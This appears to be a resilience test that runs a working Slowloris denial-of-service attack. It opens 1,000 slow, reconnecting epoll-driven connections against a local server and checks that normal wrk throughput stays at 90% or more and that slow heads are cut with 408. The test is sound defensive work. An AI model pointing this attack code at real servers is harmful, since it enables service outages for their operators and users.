"""Slowloris: 1 000 connections each sending a header byte every few seconds (reconnecting when
the server cuts them) while wrk, a normal client, keeps at least 90 % of its throughput.

Rounds alternate without and with the attack, and the ratio kept is the median over the pairs,
so that the load of other work on this shared machine falls on both sides and one disturbed
round does not decide. Full mode runs rounds past the request-head timeout (10 s),
so the server's 408s and the attacker's reconnections are part of it."""
import heapq
import json
import random
import select
import signal
import socket
import statistics
import subprocess
import sys
import time

from hostile_support import Server, raise_fd_limit, report, short_mode, wrk

ATTACKERS = 1000
PATH = "/v1/grid?count=9&style=adaptive&content_width=355&scale=3"


class Attack:
    """The slow clients, on non-blocking sockets in one epoll set (light on the shared CPU):
    each sends a request line, then a header byte every 2–4 s, and reconnects when cut."""

    def __init__(self, port):
        self.port = port
        self.poller = select.epoll()
        self.sockets = {}
        self.due = []  # (when, fd) heap of the next byte to send
        self.stats = {"open": 0, "408": 0, "reset": 0, "connect_errors": 0}

    def open_one(self):
        try:
            sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        except OSError:
            self.stats["connect_errors"] += 1
            return
        sock.setblocking(False)
        self.sockets[sock.fileno()] = sock
        self.poller.register(sock.fileno(), select.EPOLLIN)
        heapq.heappush(self.due, (time.monotonic() + random.uniform(2, 4), sock.fileno()))

    def cut(self, fd):
        sock = self.sockets.pop(fd)
        self.poller.unregister(fd)
        sock.close()

    def run(self, stop):
        for _ in range(ATTACKERS):
            self.open_one()
        print("ready", flush=True)
        while not stop:
            for fd, _ in self.poller.poll(0.05):
                try:
                    answer = self.sockets[fd].recv(4096)
                    self.stats["408"] += answer.startswith(b"HTTP/1.1 408")
                except OSError:
                    self.stats["reset"] += 1
                self.cut(fd)
                self.open_one()
            now = time.monotonic()
            while self.due and self.due[0][0] <= now:
                _, fd = heapq.heappop(self.due)
                if fd in self.sockets:
                    try:
                        self.sockets[fd].send(b"a")
                        heapq.heappush(self.due, (now + random.uniform(2, 4), fd))
                    except OSError:
                        self.stats["reset"] += 1
                        self.cut(fd)
                        self.open_one()
        self.stats["open"] = len(self.sockets)
        print(json.dumps(self.stats), flush=True)


def main():
    if sys.argv[1:2] == ["--attack"]:
        raise_fd_limit()
        stop = []
        signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
        Attack(int(sys.argv[2])).run(stop)
        return
    raise_fd_limit()
    seconds = 2 if short_mode() else 12
    rounds = 3 if short_mode() else 4
    server = Server("--max-connections", "4000")
    try:
        url = f"http://127.0.0.1:{server.port}{PATH}"
        wrk(url, 1)  # warm-up
        calm, attacked, cut = [], [], 0
        for _ in range(rounds):
            calm.append(wrk(url, seconds)["rate"])
            process = subprocess.Popen([sys.executable, __file__, "--attack", str(server.port)],
                                       stdout=subprocess.PIPE, text=True)
            ready = process.stdout.readline().strip()
            result = wrk(url, seconds)
            attacked.append(result["rate"])
            process.terminate()
            stats = json.loads(process.communicate(timeout=15)[0] or "{}")
            cut += stats.get("408", 0)
            if ready != "ready" or result["non2xx"] or result["read"] or result["timeout"]:
                report("slowloris", False, f"attack {ready!r}, wrk under attack {result}")
        alive = server.process.poll() is None
    finally:
        server.stop()
    ratio = statistics.median(under / alone for under, alone in zip(attacked, calm))
    figures = (f"{ATTACKERS} slow connections; wrk {sum(calm) / rounds:.0f} req/s alone, "
               f"{sum(attacked) / rounds:.0f} req/s under attack: {ratio:.1%} kept (median of {rounds} pairs of "
               f"{seconds}s rounds); "
               f"{cut} slow connections cut with 408")
    # Rounds longer than the 10 s request-head timeout must see the server cut slow heads.
    report("slowloris", alive and ratio >= 0.9 and (seconds < 10 or cut > 0), figures)


if __name__ == "__main__":
    main()
